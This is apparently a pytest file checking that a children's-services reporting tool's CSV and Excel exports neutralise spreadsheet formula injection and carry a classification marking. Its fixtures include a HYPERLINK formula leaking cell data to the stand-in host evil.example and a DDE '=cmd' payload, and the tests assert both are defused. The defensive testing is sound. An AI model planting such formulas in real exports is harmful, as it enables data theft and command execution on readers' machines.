"""Every CSV and Excel export is safe to open in a spreadsheet (issue 16.17) and every Excel file is marked.

A child whose feed ``child_id`` is an ``=HYPERLINK(...)`` formula, and whose name and team start with ``+``, ``-``
and ``@``, arrives through the register and police feeds like any other; then every export that can hold a text
cell is written and read back: no cell may start with a formula character, and no Excel cell may be a formula.
Genuine numbers (a negative one included) stay numbers.
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from missing_episodes.jobs.ingest import ingest_path
from missing_episodes.jobs.reports import annex_a, oversight_report, ssd_missing, ssda903_missing
from missing_episodes.reports.spreadsheets import (
    FORMULA_TRIGGERS,
    MARKING,
    Column,
    Sheet,
    neutralise,
    write_csv,
    write_workbook,
)
from tests.builders.feeds import message
from tests.builders.feeds import write_csv as write_feed

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FIRST, LAST, TEAM = "+Zoe", "@SUM(A1:A9)", "-2+3 Team"
REGISTER_FIELDS = [
    "child_id", "first_name", "last_name", "date_of_birth", "legal_status", "uasc", "responsible_authority",
    "allocated_worker", "team", "placement_distance_miles", "placement",
]


def _hostile_child(tmp_path: Path) -> None:
    """The hostile child, looked after, missing three times in February 2026 (so on every list), via the feeds."""
    register = [{
        "child_id": HYPERLINK, "first_name": FIRST, "last_name": LAST, "date_of_birth": "2010-05-01",
        "legal_status": "looked_after", "uasc": "no", "responsible_authority": "Kingsbridge",
        "allocated_worker": "=1+1", "team": TEAM, "placement_distance_miles": "2", "placement": "@home",
    }]
    summary = ingest_path("children", write_feed(tmp_path / "children.csv", register, REGISTER_FIELDS), "test")
    assert (summary.new, summary.quarantined) == (1, 0)
    rows = []
    for number, day in enumerate((2, 9, 16), start=1):
        incident = f"KBP-2026-00000{number}"
        rows.append(message(f"N{number}a", f"2026-02-{day:02d}T20:00:00", "missing", incident,
                            child_id=HYPERLINK, last_seen_at=f"2026-02-{day:02d}T19:00:00", risk_level="medium"))
        rows.append(message(f"N{number}b", f"2026-02-{day + 1:02d}T09:00:00", "found", incident,
                            child_id=HYPERLINK, found_at=f"2026-02-{day + 1:02d}T08:00:00"))
    summary = ingest_path("notifications", write_feed(tmp_path / "police.csv", rows), "police")
    assert (summary.new, summary.quarantined) == (6, 0)


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _xlsx_cells(path: Path) -> list[object]:
    workbook = load_workbook(path)
    cells = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


def _assert_safe(cells: list[object], where: str) -> None:
    text = [cell for cell in cells if isinstance(cell, str)]
    dangerous = [cell for cell in text if cell.startswith(FORMULA_TRIGGERS)]
    assert not dangerous, f"{where}: cells a spreadsheet would run: {dangerous}"


def test_every_export_neutralises_formula_cells(sqlite_url: str, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MISSING_EPISODES_DATABASE_URL", sqlite_url)
    _hostile_child(tmp_path)
    out = tmp_path / "exports"
    files = [
        *ssd_missing(out / "ssd").paths.values(),
        *annex_a(date(2026, 3, 1), out / "annex-a").paths.values(),
        *ssda903_missing(2026, out / "903").paths.values(),
        *oversight_report(date(2026, 3, 1), out / "oversight").paths.values(),
    ]
    written = {path.suffix for path in files}
    assert written == {".csv", ".xlsx", ".xml"}
    seen: dict[str, list[object]] = {}
    for path in files:
        if path.suffix == ".csv":
            seen[path.name] = list(_csv_cells(path))
        elif path.suffix == ".xlsx":
            seen[path.name] = _xlsx_cells(path)
    for name, cells in seen.items():
        _assert_safe(cells, name)
    # The value is kept, readable, behind the quote: in the SSD, Annex A and 903 files as the person id, and in the
    # oversight list with the name, team and worker.
    for name in ("ssd_missing.csv", "annex-a-list8-missing-20260301.csv", "missing.csv", "oversight-20260301.csv",
                 "oversight-20260301.xlsx"):
        assert "'" + HYPERLINK in seen[name], f"{name} lost the child's id"
    oversight = seen["oversight-20260301.xlsx"]
    assert "'=1+1" in oversight and f"'{TEAM}" in oversight and f"'{FIRST} {LAST}" in oversight
    # A count stays a number.
    assert 3 in oversight


def test_neutralise_touches_text_only() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert [neutralise(v) for v in ("+44 7700", "-x", "@x", "\tx", "\rx", "\uff1dx")] == [
        "'+44 7700", "'-x", "'@x", "'\tx", "'\rx", "'\uff1dx"]
    assert neutralise("Zoe = 1") == "Zoe = 1" and neutralise("") == ""
    assert neutralise(-5) == -5 and neutralise(-2.5) == -2.5 and neutralise(None) is None


def test_the_writers_keep_negative_numbers_as_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "name": ["=cmd|' /C calc'!A0", "Ava"],
        "change": [-5, 3],  # a numeric column: untouched
        "mixed": [-2, "-2"],  # a number and a text cell in one column: only the text is neutralised
    })
    rows = list(csv.reader(write_csv(frame, tmp_path / "t.csv").open(newline="", encoding="utf-8")))
    assert rows == [["name", "change", "mixed"], ["'=cmd|' /C calc'!A0", "-5", "-2"], ["Ava", "3", "'-2"]]
    assert frame.at[0, "name"].startswith("=")  # the caller's frame is not changed

    sheet = Sheet("T", "=title", frame, [Column("name", "Name"), Column("change", "Change", "count"),
                                         Column("mixed", "Mixed")])
    ws = load_workbook(write_workbook(tmp_path / "t.xlsx", [sheet], title="-t"))["T"]
    assert ws["A2"].value == "'=title"
    assert [ws.cell(4, n).value for n in (1, 2, 3)] == ["'=cmd|' /C calc'!A0", -5, -2]
    assert ws["B4"].data_type == "n" and ws["C5"].value == "'-2"


def test_every_workbook_is_marked_sized_and_headed_in_words(tmp_path: Path) -> None:
    frame = pd.DataFrame({"measure": ["A long measure name of forty characters."], "value": [61.9]})
    sheets = [Sheet("One", "First", frame, [Column("measure", "Measure"), Column("value", "Value (%)", "percent")]),
              Sheet("Two", "Second", frame, [Column("measure", "Measure")])]
    path = write_workbook(tmp_path / "m.xlsx", sheets, title="Marked")
    workbook = load_workbook(path)
    assert workbook.properties.category == MARKING
    assert {p.name: p.value for p in workbook.custom_doc_props.props} == {"Classification": MARKING}
    for ws in workbook.worksheets:
        assert ws["A1"].value == MARKING and ws["A1"].font.b
        assert ws.oddHeader.right.text == MARKING and ws.oddFooter.left.text == MARKING
        assert ws.freeze_panes == "A4" and ws.print_title_rows == "$1:$3"
        assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)  # 9: A4
        assert ws.column_dimensions["A"].width >= len("A long measure name of forty characters.")
    assert workbook["One"]["B4"].number_format == '0.0"%"' and workbook["One"]["B3"].value == "Value (%)"
